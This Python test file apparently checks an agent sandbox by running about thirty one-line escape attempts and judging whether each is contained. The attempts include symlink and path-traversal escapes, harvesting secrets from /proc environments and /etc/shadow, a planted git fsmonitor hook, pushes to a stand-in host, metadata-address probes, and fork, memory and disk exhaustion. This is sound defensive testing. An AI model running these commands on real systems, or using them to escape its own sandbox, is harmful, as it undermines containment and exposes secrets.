"""Attacks on the sandbox that are one command each, and what is seen when they fail.

A command prints `BREACH <what>` where it got through.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Callable
from dataclasses import dataclass

from sandbox_scene import SECRET, SMALL, Listeners, Scene

from agentcoord.sandbox import KilledBy, Limits, Result, Sandbox

Judge = Callable[[Result], str]
"""Returns what is wrong, or nothing."""


def printed(pattern: str) -> Judge:
    """The attack must have got as far as printing this, else it proves nothing."""

    def judge(result: Result) -> str:
        return "" if re.search(pattern, result.output) else f"{pattern!r} is not in {result.output!r}"

    return judge


GOT_TO_THE_END = printed("done")


def killed(*by: KilledBy) -> Judge:
    """Ended from outside for one of these reasons."""
    return lambda result: (
        "" if result.killed_by in by else f"killed by {result.killed_by!r}: {result.output!r}"
    )


@dataclass(frozen=True, slots=True)
class Attack:
    """One command; __OUTSIDE__, __REPO__, __PORT__, __ABSTRACT__ and __SOCKET__ are filled in."""

    name: str
    command: str
    judge: Judge = GOT_TO_THE_END
    limits: Limits = SMALL


def python(code: str) -> str:
    """Return a command that runs `code`, which may use `breach(what)` and `call(name, *args)`."""
    prelude = """
import ctypes, errno, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
numbers = {
    'x86_64': dict(ptrace=101, keyctl=250, unshare=272, mount=165, setns=308, bpf=321, userfaultfd=323,
                   io_uring_setup=425, clone3=435, open_tree=428, perf_event_open=298, clone=56),
    'aarch64': dict(ptrace=117, keyctl=219, unshare=97, mount=40, setns=268, bpf=280, userfaultfd=282,
                    io_uring_setup=425, clone3=435, open_tree=428, perf_event_open=241, clone=220),
}[os.uname().machine]
def breach(what): print('BREACH', what, flush=True)
def call(name, *args):
    ctypes.set_errno(0)
    value = libc.syscall(numbers[name], *[ctypes.c_long(arg) for arg in args])
    return errno.errorcode.get(ctypes.get_errno(), 'OK') if value < 0 else 'OK'
def refused(name, *args, by='EPERM'):
    answer = call(name, *args)
    if answer != by: breach(f'{name} answered {answer}')
"""
    return f"python3 - <<'AGENTCOORD_CODE'\n{prelude}{code}\nprint('done')\nAGENTCOORD_CODE\n"


ATTACKS = (
    Attack(
        "reads what is outside by its absolute path",
        'cat "__OUTSIDE__/canary" && echo BREACH; ls "__OUTSIDE__" && echo BREACH; echo done',
    ),
    Attack(
        "writes what is outside through a link",
        'ln -s "__OUTSIDE__" way; cat way/canary && echo BREACH; echo dead > way/canary; echo done',
    ),
    Attack(
        "climbs out with dots",
        "cat ../outside/canary ../../../../../../..__OUTSIDE__/canary && echo BREACH; echo done",
    ),
    Attack("makes a hard link to the system's files", "ln /usr/bin/env here && echo BREACH; echo done"),
    Attack(
        "looks for secrets in environments and command lines",
        "cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n' > seen; env >> seen; "
        "grep -n -- '[-]-setenv\\|[-]-ro-bind\\|[-]-seccomp\\|CANARY_K[E]Y' seen && echo BREACH; "
        "cat seen; echo done",
    ),
    Attack(
        "goes through the root of the first process",
        'for place in "/proc/1/root__OUTSIDE__" "/proc/1/cwd__OUTSIDE__" /proc/*/root__OUTSIDE__ '
        '/proc/*/root/etc/shadow /oldroot /newroot; do ls "$place" && echo BREACH; done; echo done',
    ),
    Attack(
        "looks at homes and run-time folders",
        "for place in /root /home/* /run/user /run/dbus /run/docker.sock /var/run /var/lib "
        "/sys /mnt /opt /srv; do "
        '[ "$place" = /home/agent ] || [ -z "$(find $place -type f 2>/dev/null | head -1)" ] '
        "|| echo BREACH $place; done; [ -r /etc/shadow ] && echo BREACH shadow; echo done",
    ),
    Attack(
        "writes where only reading is meant",
        "for place in / /usr /usr/bin /etc /dev /run /run/objects __REPO__/.git __REPO__/.git/hooks "
        "__REPO__/packages/app/node_modules /proc/sys/kernel/core_pattern "
        "/proc/sys/vm/overcommit_memory /proc/mtrr /home; do "
        '(: > "$place/x" || : > "$place") 2>/dev/null && echo BREACH $place; done; '
        "echo 1 2>/dev/null > /proc/sysrq-trigger && echo BREACH; echo done",
    ),
    Attack(
        "changes shared dependencies",
        "cat packages/app/node_modules/dependency.js | grep -q exports || echo BREACH unreadable; "
        "echo evil >> packages/app/node_modules/dependency.js && echo BREACH; "
        "rm -rf packages/app/node_modules; mv packages/app/node_modules elsewhere; echo done",
    ),
    Attack(
        "connects to the network",
        python(
            """
for family, address in (
    (socket.AF_INET, ('192.0.2.1', 80)), (socket.AF_INET, ('127.0.0.1', __PORT__)),
    (socket.AF_INET, ('169.254.169.254', 80)), (socket.AF_INET6, ('2001:db8::1', 80)),
    (socket.AF_UNIX, '\\0__ABSTRACT__'), (socket.AF_UNIX, '__SOCKET__'),
):
    try:
        socket.socket(family).connect(address)
    except OSError:
        continue
    breach(address)
try:
    socket.getaddrinfo('example.org', 80)
    breach('names are resolved')
except OSError:
    pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))
    breach('datagrams leave')
except OSError:
    pass
"""
        ),
    ),
    Attack(
        "opens exotic sockets",
        python(
            """
for name, family in dict(vsock=40, alg=38, packet=17, bluetooth=31, tipc=30, xdp=44, can=29).items():
    try:
        socket.socket(family, socket.SOCK_DGRAM)
    except OSError as error:
        if error.errno != errno.EAFNOSUPPORT: breach(f'{name}: {error}')
        continue
    breach(name)
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
    breach('raw')
except OSError:
    pass
"""
        ),
    ),
    Attack(
        "calls the kernel where it is thin",
        python(
            """
refused('keyctl', 0, -3, 0)
refused('ptrace', 0, 0, 0, 0)
refused('bpf', 0, 0, 0)
refused('io_uring_setup', 8, 0)
refused('userfaultfd', 0)
refused('perf_event_open', 0, 0, -1, -1, 0)
refused('clone3', 0, 0, by='ENOSYS')
"""
        ),
    ),
    Attack(
        "makes namespaces and mounts of its own",
        "unshare -Ur true && echo BREACH; unshare -n true && echo BREACH; "
        "mount -t tmpfs x /tmp && echo BREACH\n"
        + python(
            """
for flag in (0x20000, 0x10000000, 0x20000000, 0x40000000):
    refused('unshare', flag)
    refused('clone', flag | 17, 0, 0, 0, 0)
refused('mount', 0, 0, 0, 0, 0)
refused('setns', 0, 0)
refused('open_tree', -100, 0, 0)
"""
        ),
    ),
    Attack(
        "keeps or gains capabilities",
        "grep Cap /proc/self/status | grep -v ':\\s*0*$' && echo BREACH; "
        "grep -q 'NoNewPrivs:\\s*1' /proc/self/status || echo BREACH; mknod dev c 1 3 && echo BREACH; "
        "chown 12345 hello.py && echo BREACH; echo done",
    ),
    Attack(
        "commits, stashes and pushes",
        "git commit -qam evil && echo BREACH commit; git stash && echo BREACH stash; "
        "git add hello.py && echo BREACH add; git push origin main && echo BREACH push; "
        "git push https://192.0.2.1/x main && echo BREACH push; git tag evil && echo BREACH tag; "
        "git branch evil && echo BREACH branch; git update-ref refs/heads/main HEAD~0 && echo BREACH ref; "
        "git gc && echo BREACH gc; git worktree add ../w && echo BREACH worktree; echo done",
    ),
    Attack(
        "plants hooks and configuration",
        "git config core.fsmonitor 'touch __OUTSIDE__/pwned' && echo BREACH config; "
        "git config core.hooksPath /tmp && echo BREACH config; mkdir -p .git/hooks && echo BREACH mkdir; "
        "echo x > .git/config && echo BREACH write; echo x > .git/info/attributes && echo BREACH write; "
        "rm -rf .git; mv .git elsewhere && echo BREACH mv; rmdir .git && echo BREACH; "
        "git remote add origin https://x && echo BREACH remote; echo done",
    ),
    Attack(
        "finds a remote with a token",
        "git remote -v | grep . && echo BREACH; cat __REPO__/.git/config; "
        "git config --list | grep -i 'url\\|token' && echo BREACH; echo done",
    ),
    Attack(
        "breeds processes",
        # The count is bounded here too, in case the sandbox does not hold it.
        python(
            """
import time
born = 0
for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
    born += 1
    if born > 55: time.sleep(0.01)
print('born', born, flush=True)
if born > 150: breach(f'{born} processes')
os._exit(0)
"""
        ),
        lambda result: (
            ""
            if "BREACH" not in result.output
            and (result.killed_by is KilledBy.PROCESSES or re.search(r"born \d\d?\b", result.output))
            else f"{result}"
        ),
    ),
    Attack(
        "allocates without end",
        # Bounded here too, in case the sandbox does not hold it.
        python(
            """
held = []
try:
    while len(held) < 64:
        held.append(bytearray(16 * 1024**2))
except MemoryError:
    print('refused after', len(held), flush=True)
else:
    breach('it holds a gigabyte')
"""
        ),
        printed(r"refused after \d+\n"),
    ),
    Attack(
        "allocates in many processes",
        python(
            """
import time
for _ in range(6):
    if os.fork() == 0:
        held = bytearray(os.urandom(1024)) * (100 * 1024)
        time.sleep(60)
        os._exit(0)
time.sleep(5)
breach('its children hold 600 MB')
"""
        ),
        killed(KilledBy.MEMORY),
    ),
    Attack(
        "allocates shared memory",
        python(
            """
import mmap, time
held = mmap.mmap(-1, 512 * 1024**2)
for place in range(0, len(held), 4096): held[place] = 1
time.sleep(5)
breach('it shares 512 MB with itself')
"""
        ),
        killed(KilledBy.MEMORY),
    ),
    Attack(
        "fills private memory",
        "for place in /tmp /home/agent /dev/shm; do head -c 100M /dev/zero > $place/big; "
        "[ $(cat $place/* | wc -c) -le 8388608 ] || echo BREACH $place; done; echo done",
        limits=dataclasses.replace(SMALL, file_bytes=1024**3),
    ),
    Attack(
        "writes one huge file",
        "head -c 100M /dev/zero > big; [ $(wc -c < big) -le 4194304 ] || echo BREACH; echo done",
    ),
    Attack(
        "fills the disk with many files",
        "for i in $(seq 60); do head -c 4M /dev/zero > fill$i || break; sync fill$i; sleep 0.05; done; "
        "echo BREACH",
        killed(KilledBy.DISK),
        limits=dataclasses.replace(SMALL, disk_growth_bytes=24 * 1024**2),
    ),
    Attack(
        "ignores the request to end",
        "trap '' TERM INT HUP; while :; do read -t 1 < <(:); done",
        killed(KilledBy.TIMEOUT),
        limits=dataclasses.replace(SMALL, timeout_s=0.5),
    ),
    Attack(
        "kills what watches it",
        "kill -9 1; kill -9 -1; echo done",
        lambda result: "" if result.exit_code in {0, 137} else f"{result}",
    ),
    Attack(
        "is chosen last when memory runs out", '[ "$(cat /proc/self/oom_score_adj)" = 1000 ] && echo done'
    ),
    Attack(
        "inherits descriptors",
        "ls -l /proc/self/fd | grep -v ' [0-2] -> \\|/proc/.*/fd\\|^total' && echo BREACH; echo done",
    ),
)


async def attempt(attack: Attack, scene: Scene, listeners: Listeners, sandbox: Sandbox) -> list[str]:
    """Try one attack; return everything that went wrong with the defence."""
    filled = attack.command
    for name, value in (
        ("__OUTSIDE__", scene.outside),
        ("__REPO__", scene.repo),
        ("__PORT__", listeners.port),
        ("__ABSTRACT__", listeners.abstract),
        ("__SOCKET__", listeners.path),
    ):
        filled = filled.replace(name, str(value))
    result = await sandbox.run(filled, scene.policy, attack.limits)
    problems = [f"changed: {path}" for path in scene.damage()]
    problems += [line for line in result.output.splitlines() if line.startswith("BREACH")]
    if SECRET in result.output:
        problems.append("the secret is in the output")
    if listeners.visitors:
        problems.append("a server of the host was reached")
    told = attack.judge(result)
    return [*problems, told] if told else problems
